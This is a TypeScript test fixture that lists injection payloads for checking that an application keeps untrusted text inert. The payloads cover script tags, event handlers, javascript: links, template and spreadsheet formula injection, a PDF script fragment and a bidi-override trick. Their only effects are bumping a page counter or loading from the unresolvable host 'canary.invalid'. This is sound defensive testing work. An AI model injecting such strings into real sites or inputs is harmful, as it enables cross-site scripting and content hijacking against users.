/** Where a text would go if it ever became a request. Nobody listens there: `.invalid` resolves nowhere. */
export const ELSEWHERE = 'canary.invalid';

const script = `window.__executed=(window.__executed||0)+1`;

/** Text that becomes code where it is not kept as text: markup, attributes, addresses, templates, style, spreadsheets, PDF, mail headers. */
export const HOSTILE: readonly string[] = [
  `<script>${script}</script>`,
  `<script src="https://${ELSEWHERE}/a.js"></script>`,
  `<img src=x onerror="${script}">`,
  `<img src="https://${ELSEWHERE}/pixel.gif">`,
  `<svg/onload=${script}>`,
  `"><svg onload='${script}'>`,
  `' autofocus onfocus='${script}' x='`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<a href="javascript:${script}">Ray</a>`,
  `javascript:${script}//`,
  `<style>@import url(https://${ELSEWHERE}/a.css);</style>`,
  `<link rel=stylesheet href=https://${ELSEWHERE}/b.css>`,
  `<meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `{{constructor.constructor('${script}')()}}`,
  '${' + script + '}',
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `=HYPERLINK("https://${ELSEWHERE}/","Ray")`,
  `(Ray) Tj ET /JS (app.alert\\(1\\)) >> endobj`,
  `\u202Eyar\u202C <b onmouseover=${script}>Ray</b>`,
];

/** What fits into a field of so many characters, so that nothing is refused for its length alone. */
export const fitting = (max: number): string[] => HOSTILE.filter((text) => text.length <= max);
